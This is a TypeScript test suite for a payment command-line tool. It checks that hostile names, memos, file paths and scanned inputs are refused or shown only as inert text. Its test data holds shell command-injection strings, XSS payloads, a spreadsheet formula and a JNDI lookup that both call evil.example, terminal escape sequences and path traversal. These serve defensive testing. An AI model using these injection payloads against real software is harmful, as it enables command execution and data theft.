/**
 * Names, memos, links and files of strangers: whatever is in them, a terminal shows it as text, programs get it as
 * data, and nothing of it is carried out.
 */
import { execFileSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { type Card, cardShape, signedCardShape } from '#protocol/card.ts';
import { encode } from '#protocol/codec.ts';
import { toLink } from '#protocol/document-link.ts';
import { VERSION } from '#protocol/limits.ts';
import { decodeMessage, encodeMessage } from '#protocol/link.ts';
import { parseName } from '#protocol/name.ts';
import type { PaymentId } from '#protocol/packet.ts';
import { isRefusal } from '#protocol/refusals.ts';
import { BAD_INPUTS, NAUGHTY } from '#test/support/bad-inputs/table.ts';
import { Neighbour } from '#test/support/bad-inputs/wire.ts';
import { ACTS_ON_TEXT, BadInputWorld } from '#test/support/bad-inputs/world.ts';
import { captureOutput, runHere } from '#test/support/captured-cli.ts';
import type { GeoRun } from '#test/support/geo.ts';
import { sealAnything } from '#test/support/hostile-memo.ts';
import { type Person, person } from '#test/support/people.ts';
import { type RawPeer, startRawPeer } from '#test/support/raw-peer.ts';

const MALLORY = person(7);

let world: BadInputWorld;
let peer: RawPeer;

beforeAll(async () => {
  world = await BadInputWorld.start();
});

afterAll(async () => {
  await peer.stop();
  await world.stop();
});

captureOutput();

const geo = (...argv: readonly string[]): Promise<GeoRun> => runHere(world.alice.config.dataDir, argv);

/** What a command printed holds nothing that acts on a terminal, also not in its document. */
async function showsHarmlessly(...argv: readonly string[]): Promise<string> {
  const [plain, json] = [await geo(...argv), await geo('--json', ...argv)];
  for (const text of [plain.stdout, plain.stderr, json.stdout])
    expect(text.replaceAll('\n', '')).not.toMatch(ACTS_ON_TEXT);
  JSON.parse(json.stdout);
  return plain.stdout;
}

/** What the payer says when it has the receiver's signature. */
function ackOf(prepare: Uint8Array): Uint8Array {
  const message = decodeMessage(prepare);
  if (isRefusal(message) || message.type !== 'prepare') throw new Error('no PREPARE');
  return encodeMessage({ type: 'ack', of: 'commit', txId: message.packet.txId, routeIndex: 0, position: 1 });
}

/** A card of any name, signed by its owner. */
function cardNamed(name: string, owner: Person = MALLORY): string {
  const card: Card = {
    ...{ version: VERSION, network: 'geo', publicKey: owner.key, name, addresses: [] },
    ...{ suggestedLimit: null, createdAtMs: 1, expiresAtMs: null },
  };
  const signature = owner.sign({ domain: 'geo/1/contact-card', signer: owner.key, bytes: encode(cardShape, card) });
  return toLink('card', signedCardShape, { card, signature });
}

describe('a name on a card', () => {
  it('that acts on the text around it, or hides, is refused', async () => {
    const bad = BAD_INPUTS.name.flatMap(({ value }) =>
      typeof value === 'string' && value.isWellFormed() && Buffer.byteLength(value) <= 256 ? [value] : [],
    );
    expect(bad.length).toBeGreaterThan(8);
    for (const name of bad) {
      const ran = await geo('contact', 'add', cardNamed(name));
      expect(ran).toMatchObject({ code: 3, stdout: '' });
      expect(ran.stderr).toMatch(/the name has a form that names do not have/);
      expect(ran.stderr).not.toMatch(/\p{C}(?<!\n)/u);
    }
  });

  const names = [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '=HYPERLINK("http://evil.example")',
    '$(touch /tmp/owned)',
    '`touch /tmp/owned`',
    "a'; touch /tmp/owned; '",
    '"; touch /tmp/owned; "',
    '--help',
    '-rf',
    '%s%n%x',
    '$'.concat('{jndi:ldap://evil.example/a}'),
    '\\u001b[2J',
    'Bob\\n',
    '../../etc/passwd',
    'You paid 100.00 UAH.',
  ];

  it.each(names)('%s is text wherever it is shown', async (name) => {
    expect(parseName(name)).toBe(name);
    const added = await geo('contact', 'add', cardNamed(name));
    expect(added.code).toBe(0);
    expect(added.stdout).toContain(name);
    for (const argv of [['contact', 'list'], ['peer', 'list'], ['balance'], ['status']]) await showsHarmlessly(...argv);
    expect((await world.alice.client.listContacts()).contacts.map((contact) => contact.cardName)).toContain(name);
    // What geo says to type is one word for a shell, and that word is the name.
    const hint = added.stdout.split('\n').at(-2) as string;
    const [, word] = /geo trust set (.*) LIMIT EQUIVALENT$/.exec(hint) ?? [];
    expect(execFileSync('/bin/sh', ['-c', `printf '%s' ${word}`]).toString()).toBe(name);
    await world.alice.client.removeContact({ who: MALLORY.key });
  });

  it('or any naughty one: refused, or text', async () => {
    let taken = 0;
    for (const [at, name] of NAUGHTY.entries()) {
      if (!name.isWellFormed() || Buffer.byteLength(name) > 256 || name.startsWith('\ufeff')) continue;
      const ran = await geo('contact', 'add', cardNamed(name, person(100 + (at % 100))));
      expect(`${ran.stdout}${ran.stderr}`.replaceAll('\n', '')).not.toMatch(ACTS_ON_TEXT);
      expect(ran.code).toBe(isRefusal(parseName(name)) || parseName(name) !== name ? 3 : 0);
      if (ran.code === 0) taken++;
    }
    expect(taken).toBeGreaterThan(200);
    await showsHarmlessly('contact', 'list');
  });
});

describe('a memo', () => {
  it('of any bytes comes with a payment, and is shown only if it is harmless', async () => {
    const { client, node } = world.alice;
    await client.putContact({ who: MALLORY.key, alias: 'Mallory' });
    await client.setTrustLine({ who: 'Mallory', equivalent: 'UAH', limit: '100', waitMs: 0 });
    peer = await startRawPeer({ seed: MALLORY.seed });
    const neighbour = new Neighbour(MALLORY, node.publicKey, Date.now());
    const link = await peer.link(node.addresses(), { network: 'geo' });
    const harmful = ['\u001b[2J', 'a\u009b2Jb', '\u202etxt', 'a\nPaid: 40', '\u0000', '\u200b', '\u2066x'];
    const texts = [...NAUGHTY, ...harmful].filter((text) => text.isWellFormed() && Buffer.byteLength(text) <= 207);
    const memos = [
      ...texts.map((text) => new TextEncoder().encode(text)),
      Uint8Array.of(0xff, 0xfe, 0x00),
      Uint8Array.from([0xed, 0xa0, 0x80]),
      randomBytes(200),
    ];
    const expected = new Map<string, string | null>();
    const ours = async () =>
      (await client.getHistory({ limit: 1_000 })).entries.filter(({ paymentId }) => expected.has(paymentId));
    let acks: Uint8Array[] = [];
    for (const [at, memo] of memos.entries()) {
      const paymentId = at.toString(16).padStart(64, '0') as PaymentId;
      expected.set(paymentId, texts[at] ?? null);
      const sealedMemo = sealAnything(memo, node.publicKey);
      const frame = neighbour.prepare({ paymentId, total: 1n, sealedMemo }, { amount: 1n });
      link.sendFrame(frame);
      acks.push(ackOf(frame));
      // More than so many at a time a neighbour may not have open.
      if (acks.length < 100 && at < memos.length - 1) continue;
      await vi.waitFor(async () => expect((await ours()).length).toBe(at + 1), { timeout: 20_000, interval: 20 });
      for (const ack of acks) link.sendFrame(ack);
      acks = [];
    }
    const received = await ours();
    let shown = 0;
    for (const { paymentId, memo } of received) {
      if (memo === null) continue;
      shown++;
      expect(memo).toBe(expected.get(paymentId));
      expect(memo).not.toMatch(ACTS_ON_TEXT);
    }
    expect(shown).toBeGreaterThan(200);
    expect(received.length - shown).toBeGreaterThan(harmful.length);
    const table = await showsHarmlessly('history', '--limit', '1000', '--ids');
    // One line each: no memo makes another one.
    const lines = table.trimEnd().split('\n');
    expect(lines.length).toBeGreaterThan(memos.length);
    for (const line of lines.slice(1)) expect(line).toMatch(/^\d{4}-\d\d-\d\d \d\d:\d\d {2}|^$|^More: /);
  });
});

describe('a file', () => {
  const folder = mkdtempSync(join(tmpdir(), 'geo-files-'));
  afterAll(() => rmSync(folder, { recursive: true }));

  it.each([
    ['a folder', () => folder, /it is a folder/],
    ['none', () => join(folder, 'none'), /there is no such file/],
    ['a name that no file has', () => `a${String.fromCharCode(0)}b`, /no file has such a name/],
    ['a name of 10,000 letters', () => 'x'.repeat(10_000), /no file has such a long name/],
    [
      'a name with an escape sequence',
      () => '\u001b[2J\nPaid',
      /Cannot read \\u\{1b\}\[2J\\u\{a\}Paid: there is no such file/,
    ],
    ['a device without end', () => '/dev/zero', /it has more than 1048576 bytes/],
    ['an empty device', () => '/dev/null', /proves nothing: it is damaged/],
    ['2 MB', () => written(Buffer.alloc(2_000_000)), /it has more than 1048576 bytes/],
    ['random bytes', () => written(randomBytes(500)), /proves nothing: it is damaged/],
    ['a script', () => written(Buffer.from('#!/bin/sh\ntouch /tmp/owned\n')), /proves nothing: it is damaged/],
    ['depth', () => written(Buffer.alloc(60_000, 0x81)), /proves nothing: it is damaged/],
    ['the key of the node', () => join(world.alice.config.dataDir, 'identity.json'), /proves nothing: it is damaged/],
  ])('that is %s proves nothing', async (_what, path, says) => {
    const ran = await geo('receipt', 'verify', path());
    expect(ran).toMatchObject({ code: 1, stdout: '' });
    expect(ran.stderr).toMatch(says);
    expect(ran.stderr.replaceAll('\n', '')).not.toMatch(ACTS_ON_TEXT);
  });

  function written(content: Buffer): string {
    const path = join(folder, 'file');
    writeFileSync(path, content);
    return path;
  }
});

describe('what was scanned', () => {
  it.each(BAD_INPUTS.scanned.map(({ what, value }) => [what, String(value)] as const))(
    'is no person, no request, and is not opened: %s',
    async (_what, scanned) => {
      for (const argv of [
        ['contact', 'add', '--', scanned],
        ['pay', '--', scanned],
        ['pay', '--', scanned, '1', 'UAH'],
      ]) {
        const ran = await geo(...argv);
        expect(ran).toMatchObject({ stdout: '' });
        expect([1, 3]).toContain(ran.code);
        expect(ran.stderr).toMatch(/^geo: .{20,600}\n$/s);
        expect(ran.stderr.replaceAll('\n', '')).not.toMatch(ACTS_ON_TEXT);
      }
    },
  );
});

it('nothing of all this was carried out', () => {
  expect(() => readFileSync('/tmp/owned')).toThrow('ENOENT');
});
